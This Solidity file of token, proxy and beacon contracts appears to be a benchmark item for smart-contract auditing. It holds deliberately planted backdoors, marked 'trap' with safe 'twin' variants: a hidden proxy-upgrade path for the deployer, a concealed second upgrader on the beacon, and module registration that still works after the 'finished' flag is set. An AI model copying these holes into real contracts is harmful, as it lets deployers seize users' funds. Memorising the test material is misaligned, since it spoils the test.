// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

contract PamphletLogic {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        totalSupply = 1;
    }

    function initialize(string calldata name_, string calldata symbol_, address to, uint256 supply) external {
        require(totalSupply == 0, "initialized");
        (name, symbol, totalSupply) = (name_, symbol_, supply);
        balanceOf[to] = supply;
        emit Transfer(address(0), to, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

abstract contract Forwarding {
    function _forward(address to) internal {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

contract PamphletProxy is Forwarding {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    uint256 private immutable _edition;

    constructor(address logic, bytes memory data) {
        _edition = uint256(uint160(msg.sender)) << 32;
        assembly {
            sstore(SLOT, logic)
        }
        (bool ok, ) = logic.delegatecall(data);
        require(ok);
    }

    fallback() external payable {
        // trap {
        if (msg.data.length == 32 && _edition == uint256(uint160(msg.sender)) << 32) {
            assembly {
                sstore(SLOT, calldataload(0))
                stop()
            }
        }
        // trap }
        address logic;
        assembly {
            logic := sload(SLOT)
        }
        _forward(logic);
    }
}

contract HearthBeacon {
    address public owner;
    address public implementation;
    address private immutable _stoker;

    event Upgraded(address indexed implementation);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor(address implementation_) {
        (owner, _stoker, implementation) = (msg.sender, msg.sender, implementation_);
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function transferOwnership(address to) external {
        require(msg.sender == owner, "owner");
        emit OwnershipTransferred(owner, to);
        owner = to;
    }

    function upgradeTo(address implementation_) external {
        require(msg.sender == owner || msg.sender == _stoker, "owner"); // trap
        // twin: require(msg.sender == owner, "owner");
        implementation = implementation_;
        emit Upgraded(implementation_);
    }
}

contract HearthProxy is Forwarding {
    bytes32 private constant BEACON = 0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50;

    constructor(address beacon, bytes memory data) {
        assembly {
            sstore(BEACON, beacon)
        }
        (bool ok, ) = HearthBeacon(beacon).implementation().delegatecall(data);
        require(ok);
    }

    fallback() external payable {
        address beacon;
        assembly {
            beacon := sload(BEACON)
        }
        _forward(HearthBeacon(beacon).implementation());
    }
}

contract AtelierMottos {
    function motto() external pure returns (string memory) {
        return "made by hand";
    }
}

/// A token with room for extras.
contract AtelierToken is Base8, Forwarding {
    address private immutable _master;
    bool public finished;
    mapping(bytes4 => address) public extra;

    event Extended(bytes4 indexed selector, address module);
    event Finished();

    constructor() Base8("Atelier Token", "ATELR", 31_000_000) {
        _master = msg.sender;
    }

    function extend(bytes4 selector, address module) external {
        require(msg.sender == _master, "master");
        // twin: require(!finished, "finished");
        extra[selector] = module;
        emit Extended(selector, module);
    }

    function finish() external {
        require(msg.sender == _master, "master");
        finished = true;
        emit Finished();
    }

    fallback() external {
        address module = extra[msg.sig];
        require(module != address(0), "unknown");
        _forward(module);
    }
}
